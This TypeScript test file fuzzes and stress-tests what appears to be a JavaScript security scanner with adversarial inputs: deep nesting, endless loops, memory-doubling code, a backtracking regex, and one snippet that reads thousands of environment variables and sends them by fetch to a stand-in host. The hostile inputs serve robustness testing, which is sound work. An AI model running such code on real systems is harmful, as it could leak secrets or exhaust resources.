/** Hostile input: nothing thrown, nothing hung, nothing out of bounds; what was not read is said. */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type ReadResult, readFile } from '../../../scanner/languages/context.ts';
import javascript from '../../../scanner/languages/javascript/index.ts';
import { limits } from '../../../scanner/limits.ts';
import type { File } from '../../../scanner/model.ts';

async function read(text: string): Promise<ReadResult> {
  const file: File = { id: 0, path: 'a.js', kind: 'text', size: text.length, sha256: '', text, executable: false };
  const resolve = async (id: string) => (id === 'javascript' ? javascript : undefined);
  return readFile({ file, language: 'javascript', role: 'file' }, { unit: 0, fact: 0, cell: 0 }, new Set(['a.js']), limits, resolve, (run) => {
    run();
    return 'done';
  });
}
const said = (result: ReadResult): string[] => result.facts.flatMap((fact) => (fact.kind === 'opaque' ? [fact.why] : []));
const N = 20_000;

describe('deep and long', () => {
  it.each<[string, string]>([
    ['sums', `x = a${'+a'.repeat(N)}`],
    ['else-if', `if (a) {}${' else if (a) {}'.repeat(N)}`],
    ['arrays', '['.repeat(N) + ']'.repeat(N)],
    ['open arrays', '['.repeat(N)],
    ['calls', `f${'()'.repeat(N)}`],
    ['methods', `a${'.b()'.repeat(N)}`],
    ['members', `a${'.b'.repeat(N)}`],
    ['conditionals', `x = ${'a ? b : '.repeat(N)}c`],
    ['functions', `${'(() => '.repeat(N)}1${')'.repeat(N)}`],
    ['templates', `${'`${'.repeat(N)}1${'}`'.repeat(N)}`],
    ['blocks', '{'.repeat(N) + '}'.repeat(N)],
    ['unary', `x = ${'!'.repeat(N)}a`],
    ['objects', `x = ${'{a:'.repeat(N)}1${'}'.repeat(N)}`],
    ['patterns', `const ${'[a,'.repeat(N)}${']'.repeat(N)} = x`],
    ['JSX', '<a>'.repeat(N)],
  ])('%s by the ten thousand', async (_name, text) => {
    const started = Date.now();
    const result = await read(text);
    expect(said(result).every((why) => why === 'limit' || why === 'parse-error')).toBe(true);
    expect(Date.now() - started).toBeLessThan(60_000);
  });

  it.each<[string, string]>([
    ['doubling text', `let s = 'a'; for (let i = 0; i < 1e9; i++) s += s; eval(s)`],
    ['doubling arrays', 'let a = [1]; for (let i = 0; i < 1e9; i++) a = a.concat(a, [...a, ...a]); a.flat().flat()'],
    ['arrays of arrays', 'let a = Array(1000).fill(1); for (let i = 0; i < 50; i++) a = Array(1000).fill(a); a.flat().join()'],
    ['doubling templates', `let s = \`\${x}a\`; ${'s = `${s}${s}`;'.repeat(60)} fetch(s)`],
    ['doubling choices', `let u = a ? 'x' : 'y'; ${"u = u + (b ? '1' : '2');".repeat(60)} fetch(u)`],
    ['an endless loop', `let i = 0; while (true) { i = i ^ 1; } for (;;) { for (;;) { i++ } }`],
    ['nested counting', 'for (let i = 0; i < 1e6; i++) for (let j = 0; j < 1e6; j++) for (let k = 0; k < 1e6; k++) x = i + j * k'],
    [
      'functions that call each other',
      `${Array.from({ length: 300 }, (_, i) => `function f${i}(a, b) { return f${(i * 7 + 1) % 300}(a + ${i}, f${(i * 3 + 2) % 300}(b, a)) }`).join(
        '\n',
      )}\nf0('x', 'y')`,
    ],
    ['a function of itself', `const y = (f) => (x) => f(f)(x); ${'y(y)(y)(y);'.repeat(50)} function r(a) { return r(r(r([a, a]))) } r(r)`],
    [
      'an object inside itself',
      `const o = {}; o.o = o; o[x] = o; const a = [o]; a.push(a); a.join(); a + ''; JSON.stringify(o); fetch('https://x.example', { body: JSON.stringify([o, a]) })`,
    ],
    [
      'names of Object.prototype',
      `const o = {}; o.__proto__ = 1; o['constructor'] = 2; x.hasOwnProperty('y'); ({})['toString'](); process.env.constructor; require('constructor').toString(); globalThis['__proto__']()`,
    ],
    ['a pattern that backtracks', `'${'a'.repeat(5_000)}!'.replace(/(a+)+$/, 'x').split(/(a|a)*b/).map(eval)`],
    [
      'huge repetition',
      `'x'.repeat(1e9); 'x'.padStart(1e9); Array(1e9).fill(0).map((x) => x); [...Array(1e8).keys()]; String.fromCharCode(...Array(1e7))`,
    ],
    [
      'many variables',
      `${Array.from({ length: 5_000 }, (_, i) => `let v${i} = process.env.X${i};`).join('')} fetch('https://x.example/' + ${Array.from({ length: 1_000 }, (_, i) => `v${i}`).join('+')})`,
    ],
  ])('%s', async (_name, text) => {
    const started = Date.now();
    const result = await read(text);
    expect(said(result).filter((why) => why === 'crash')).toEqual([]);
    expect(Date.now() - started).toBeLessThan(60_000);
  });
});

const PIECES = [
  'const ',
  'let ',
  'var ',
  'function ',
  'async ',
  'await ',
  'return ',
  'class ',
  'extends ',
  'new ',
  'if ',
  'else ',
  'for ',
  'while ',
  'do ',
  'switch ',
  'case ',
  'try ',
  'catch ',
  'yield ',
  'import ',
  'export ',
  'default ',
  'from ',
  'typeof ',
  'delete ',
  'void ',
  'this',
  'super',
  'of ',
  'in ',
  'a',
  'b',
  'fetch',
  'require',
  'process',
  'env',
  'eval',
  'globalThis',
  'Function',
  'Promise',
  'Object',
  'exports',
  'module',
  'constructor',
  'prototype',
  'exec',
  'then',
  'map',
  'join',
  'split',
  'push',
  'apply',
  'call',
  'bind',
  'undefined',
  'arguments',
  '(',
  ')',
  '[',
  ']',
  '{',
  '}',
  '.',
  '?.',
  ',',
  ';',
  ':',
  '=',
  '=>',
  '+',
  '-',
  '*',
  '!',
  '&&',
  '||',
  '??',
  '?',
  '...',
  '==',
  '<',
  '>',
  '+=',
  '++',
  '#',
  '@',
  '`',
  '${',
  '/',
  '/*',
  '*/',
  '//',
  '\n',
  ' ',
  "'child_process'",
  "'fs'",
  '"https://x.example"',
  "'./b'",
  "'exec'",
  '0',
  '1',
  '1e9',
  '/x/g',
  '`x${',
  '}`',
  '\\u{1F600}',
  '\u202e',
  '\u200b',
  '\ufeff',
  '\u0000',
  '<a>',
  '</a>',
  '<!--',
  '-->',
  '#!',
] as const;

const name = fc.constantFrom('a', 'b', 'c', 'f', 'g');
/** Programs that parse: expressions over a few names, nested. */
const { expression } = fc.letrec<{ expression: string }>((tie) => ({
  expression: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.oneof(
      name,
      fc
        .constantFrom('1', "'x'", '[]', '{}', 'process.env', 'process.argv', 'globalThis', 'this', "'fetch'", "require('fs')", 'null', 'undefined')
        .map((one) => `(${one})`),
    ),
    fc
      .tuple(
        tie('expression'),
        fc.constantFrom(
          'a',
          'map',
          'then',
          'push',
          'join',
          'constructor',
          'call',
          'apply',
          'bind',
          'split',
          'env',
          'reduce',
          'forEach',
          'toString',
          'pipe',
          'on',
          'length',
        ),
      )
      .map(([left, key]) => `${left}.${key}`),
    fc.tuple(tie('expression'), tie('expression')).map(([left, right]) => `${left}[${right}]`),
    fc.tuple(tie('expression'), fc.array(tie('expression'), { maxLength: 3 })).map(([left, args]) => `${left}(${args.join(', ')})`),
    fc.tuple(name, tie('expression')).map(([left, right]) => `(${left} = ${right})`),
    fc
      .tuple(tie('expression'), fc.constantFrom('+', '-', '&&', '||', '??', '===', '<', '^'), tie('expression'))
      .map(([left, operator, right]) => (operator === '??' ? `((${left}) ?? (${right}))` : `((${left}) ${operator} (${right}))`)),
    fc.tuple(name, tie('expression')).map(([param, body]) => `((${param}) => (${body}))`),
    fc
      .tuple(name, tie('expression'))
      .map(([param, body]) => `(async function ${param}(a, ...b) { for (const c of b) { ${param}(${body}) } return ${body} })`),
    fc.array(tie('expression'), { maxLength: 3 }).map((items) => `[${items.join(', ')}]`),
    fc.tuple(name, tie('expression')).map(([key, value]) => `({ ${key}: ${value}, ...${key} })`),
    fc.tuple(tie('expression'), tie('expression')).map(([left, right]) => `\`\${${left}}x\${${right}}\``),
    tie('expression').map((inner) => `new (${inner})(a)`),
    tie('expression').map((inner) => `(class A extends (${inner}) { b = ${inner}; c() { return this.b } })`),
  ),
}));

describe('any text', () => {
  const check = async (text: string): Promise<void> => {
    const result = await read(text);
    for (const fact of result.facts) {
      if (fact.kind === 'opaque') expect(fact.why === 'crash' ? fact.detail : '').toBe('');
      expect(fact.at.start).toBeGreaterThanOrEqual(0);
      expect(fact.at.end).toBeLessThanOrEqual(text.length);
      expect(fact.at.start).toBeLessThanOrEqual(fact.at.end);
    }
  };
  it('survives token soup', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }), (pieces) => check(pieces.join(''))),
      { numRuns: 600 },
    );
  });
  it('survives programs without sense', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(expression, { minLength: 1, maxLength: 6 }), (parts) =>
        check(parts.map((part, i) => (i % 2 ? `${part};` : `var ${'abcfg'[i % 5]} = ${part};`)).join('\n')),
      ),
      { numRuns: 600 },
    );
  });
  it('says the same twice', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(expression, { minLength: 1, maxLength: 4 }), async (parts) => {
        const text = parts.join(';\n');
        expect(await read(text)).toEqual(await read(text));
      }),
      { numRuns: 100 },
    );
  });
});
